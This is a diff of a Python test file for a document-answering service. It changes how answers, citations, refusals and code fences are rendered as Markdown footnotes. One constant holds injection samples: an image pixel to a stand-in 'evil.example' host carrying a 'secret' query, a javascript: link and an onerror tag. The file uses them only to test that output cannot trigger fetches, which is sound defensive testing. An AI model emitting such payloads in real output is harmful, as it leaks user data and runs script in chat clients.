@@ -22,6 +22,7 @@ from rag.service.uploads import Uploads
 from rag.types import Answer, Citation, CopiedText, Outcome, Passage, given_passage
 
 NAMES = Names(Uploads(Path("/nowhere")), "world")
+SURE = "*confidence 75%, by the copying generator*"
 HOSTILE = "See ![pixel](http://evil.example/?q=secret) and [here](javascript:alert(1)) <img src=x onerror=y>."
 
 
@@ -41,45 +42,49 @@ def test_footnotes_stand_behind_what_they_bear_out() -> None:
     made = answer("Tea is green. Salt is white.", citation(1, "Tea is green.", (0, 13), page=2),
                   citation(2, "Salt is white.", (14, 28), line=7), citation(3, "Both.", (0, 13), (14, 28)))  # fmt: skip
     assert chat_text(made, NAMES).split("\n\n") == [
-        "Tea is green.[1][3] Salt is white.[2][3]",
-        "[1] A, page 2: “Tea is green.”",
-        "[2] A, line 7: “Salt is white.”",
-        "[3] A: “Both.”",
+        "Tea is green.[^1][^3] Salt is white.[^2][^3]",
+        SURE,
+        "[^1]: A, page 2: “Tea is green.”\n[^2]: A, line 7: “Salt is white.”\n[^3]: A: “Both.”",
     ]
 
 
 def test_a_refusal_says_so_and_shows_the_nearest() -> None:
     nearest = given_passage("Tea   is\ngreen. " + "x" * 400, source="/docs/tea.md")  # no word of it is asked for
     said = chat_text(answer("", passages=(nearest,)), NAMES)
-    assert said == "Nothing in these documents bears on this.\n\nThe nearest:\n\n[1] tea.md: Tea is green."
-    assert chat_text(answer(""), NAMES) == "Nothing in these documents bears on this."
-    assert "Did you mean: Whose?" in chat_text(answer("", meant="Whose?"), NAMES)
+    nothing = "**Nothing in these documents bears on this.**"
+    assert said.split("\n\n") == [nothing, SURE, "The nearest passages:", "- tea.md: Tea is green."]
+    assert chat_text(answer(""), NAMES) == nothing
+    assert "Did you mean: *Whose?*" in chat_text(answer("", meant="Whose?"), NAMES)
 
 
 def test_the_closest_evidence_says_what_it_is() -> None:
     made = answer("Tea is green.", citation(1, "Tea is green.", (0, 13)), outcome="unsure", read_as="Who is green?")
     assert chat_text(made, NAMES).split("\n\n") == [
-        "Not sure. The closest is: Tea is green.[1]",
-        "Read as: Who is green?",
-        "[1] A: “Tea is green.”",
+        "*read as: Who is green?*",
+        "*Not sure. The closest is:*",
+        "Tea is green.[^1]",
+        SURE,
+        "[^1]: A: “Tea is green.”",
     ]
 
 
 def test_yes_of_which_nobody_is_sure_is_not_said() -> None:
     made = answer("Yes. Tea is green.", citation(1, "Tea is green.", (5, 18)), outcome="unsure", form="yes-no")
-    assert chat_text(made, NAMES).split("\n\n") == ["Not sure. The closest is:", "[1] A: “Tea is green.”"]
+    said = chat_text(made, NAMES)
+    assert said.startswith("*Not sure. The closest is:*\n\nTea is green.[^1]\n\n")
+    assert "Yes" not in said
 
 
 def test_a_quotation_beside_the_answer_has_no_number_in_it() -> None:
     made = answer("Tea is green.", citation(1, "Tea is green.", (0, 13)), citation(2, "Salt is white."))
     assert chat_text(made, NAMES).split("\n\n") == [
-        "Tea is green.[1]",
-        "[1] A: “Tea is green.”",
-        "[2] A: “Salt is white.”",
+        "Tea is green.[^1]",
+        SURE,
+        "[^1]: A: “Tea is green.”\n[^2]: A: “Salt is white.”",
     ]
 
 
-@pytest.mark.parametrize("code", ["x = [1](2)\n  y = 3", "```\n![a](b)", "~~~\n`````"])
+@pytest.mark.parametrize("code", ["x = [1](2)\n  y = 3", "y = 4\n````\n![a](b)", "z\n~~~\n`````\nw"])
 def test_code_stands_between_fences_that_nothing_in_it_ends(code: str) -> None:
     text = f"Write:\n\n{code}\n\nThen go."
     start = text.index(code)
@@ -91,19 +96,23 @@ def test_code_stands_between_fences_that_nothing_in_it_ends(code: str) -> None:
     (fence,) = re.findall(r"(?m)^(`{3,})\n" + re.escape(code) + r"\n\1$", said)
     assert fence not in code
     assert said.startswith("Write:\n\n```")
-    assert "Then go.[1]" in said
+    assert "Then go.[^1]" in said
 
 
 def images_and_links(markdown: str) -> list[str]:
-    """Return what CommonMark could make an image, a link, a definition or HTML of; a backslash takes its power."""
+    """Return what CommonMark could make an image, a link, a definition or HTML of; a backslash takes its power.
+
+    The numbers of our own footnotes, and the beginnings of the footnotes, are left out.
+    """
     bare = re.sub(r"\\[!-/:-@\[-`{-~]", ".", markdown)
+    bare = re.sub(r"\[\^1\]", "", re.sub(r"(?m)^\[\^1\]: ", "", bare))
     return re.findall(r"!\[|\]\(|\]:|\]\[|<[A-Za-z/!?]", bare)
 
 
 def test_documents_cannot_make_a_chat_client_fetch_anything() -> None:
     made = answer(HOSTILE, citation(1, HOSTILE, (0, len(HOSTILE)), title=HOSTILE))
     assert images_and_links(HOSTILE)
-    assert not images_and_links(chat_text(made, NAMES).replace("[1]", ""))
+    assert not images_and_links(chat_text(made, NAMES))
     refused = answer("", passages=(given_passage(HOSTILE, title=HOSTILE),))
     assert not images_and_links(chat_text(refused, NAMES))
 
